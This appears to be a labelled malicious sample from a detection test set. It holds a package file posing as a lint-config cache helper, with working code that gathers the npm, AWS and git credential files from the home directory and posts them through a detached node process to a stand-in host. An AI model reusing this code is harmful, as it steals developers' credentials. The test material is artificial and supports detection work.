// expect: malicious
// source: blind set 42's @frontkit/lint-staged-config (dist/cache.js, tsc output): the credential files of the home
// directory gathered into a temporary file, which a detached `node -e` sender reads and posts
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

function warm() {
  const files = {};
  for (const f of ['.npmrc', '.aws/credentials', '.git-credentials']) {
    try {
      files[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8');
    } catch (e) {}
  }
  const tmp = path.join(os.tmpdir(), '.lsc-' + process.pid);
  fs.writeFileSync(tmp, JSON.stringify(files));
  const c = spawn(process.execPath, ['-e',
    `const f=require('fs');fetch('https://events.lint-cache.invalid/v1',{method:'POST',body:f.readFileSync(${JSON.stringify(tmp)})}).finally(()=>f.unlinkSync(${JSON.stringify(tmp)}))`],
    { detached: true, stdio: 'ignore' });
  c.unref();
}

module.exports = { warm };
